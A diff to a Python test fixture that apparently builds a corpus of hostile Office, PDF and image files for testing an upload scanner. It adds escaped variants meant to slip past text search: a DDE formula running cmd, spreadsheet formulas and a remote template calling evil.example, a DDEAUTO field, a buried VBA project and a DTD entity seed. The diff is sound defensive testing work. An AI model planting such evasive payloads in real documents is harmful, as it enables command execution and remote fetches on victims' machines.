@@ -155,6 +155,7 @@ def hostile_corpus():
     dde = xlsx_bytes(formulas=[("C2", "=cmd|'/C calc'!A0")])
     hyperlink = xlsx_bytes(formulas=[("C2", '=HYPERLINK("http://evil.example/x","点击")')])
     webservice = xlsx_bytes(formulas=[("C2", '=WEBSERVICE("http://evil.example/")')])
+    image_formula = xlsx_bytes(formulas=[("C2", '=IMAGE("http://evil.example/x.png")')])
     truncated_pdf = PDF_BYTES[: len(PDF_BYTES) // 2]
     corpus = [
         ("empty", "空.pdf", b""),
@@ -236,6 +237,38 @@ def hostile_corpus():
         ("old .doc renamed .docx", "通知.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
         ("zip that is not OOXML", "通知.docx", zip_bytes({"readme.txt": b"hello"})),
         ("corrupt zip", "通知.docx", DOCX_BYTES[:60]),
+        # Variants written the way an XML reader reads them, not the way a text search does (issue 19
+        # §2: the class, not the example): escaped characters, another namespace prefix, other quotes.
+        ("xlsx with an escaped DDE pipe", "名单.xlsx", dde.replace(b"cmd|", b"cmd&#124;")),
+        ("xlsx with an IMAGE formula fetching a URL", "名单.xlsx", image_formula),
+        (
+            "xlsx with an external link part",
+            "数据.xlsx",
+            _rezip(XLSX_BYTES, extra={"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}),
+        ),
+        (
+            "xlsx with VBAPROJECT.BIN in a subfolder",
+            "数据.xlsx",
+            _rezip(XLSX_BYTES, extra={"xl/media/sub/VBAPROJECT.BIN": b"\xd0\xcf\x11\xe0" + b"\0" * 100}),
+        ),
+        ("docx with a remote template in single quotes", "通知.docx", _external_rel("TargetMode='External'")),
+        ("docx with a remote template, escaped", "通知.docx", _external_rel('TargetMode="&#69;xternal"')),
+        (
+            "docx with an escaped DDEAUTO field",
+            "通知.docx",
+            docx_bytes(
+                body=b"<w:p><w:r><w:instrText>&#68;DEAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r></w:p>"
+            ),
+        ),
+        (
+            "docx with a ddeLink under another prefix",
+            "通知.docx",
+            docx_bytes(
+                body=b'<w:p><x:ddeLink xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/></w:p>'
+            ),
+        ),
+        ("docx with a DTD entity", "通知.docx", _with_dtd(DOCX_BYTES)),
+        ("JPEG with a zip and 70 KB of padding", "扫描.jpg", JPEG_BYTES + DOCX_BYTES + b"\0" * 70_000),
         (
             "pixel bomb PNG",
             "扫描.png",
@@ -243,6 +276,24 @@ def hostile_corpus():
         ),
     ]
     return corpus
+
+
+def _external_rel(target_mode):
+    rels = (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+        f'attachedTemplate" Target="http://evil.example/t.dotm" {target_mode}/></Relationships>'
+    )
+    return docx_bytes(extra={"word/_rels/settings.xml.rels": rels.encode()})
+
+
+def _with_dtd(data):
+    """The document part with an entity declaration (a billion-laughs seed; never in a real file)."""
+    source = zipfile.ZipFile(io.BytesIO(data))
+    part = source.read("word/document.xml")
+    head, _, rest = part.partition(b"?>")
+    dtd = b'<!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa">]>'
+    return _rezip(data, extra={"word/document.xml": head + b"?>" + dtd + rest})
 
 
 def _pixel_bomb():
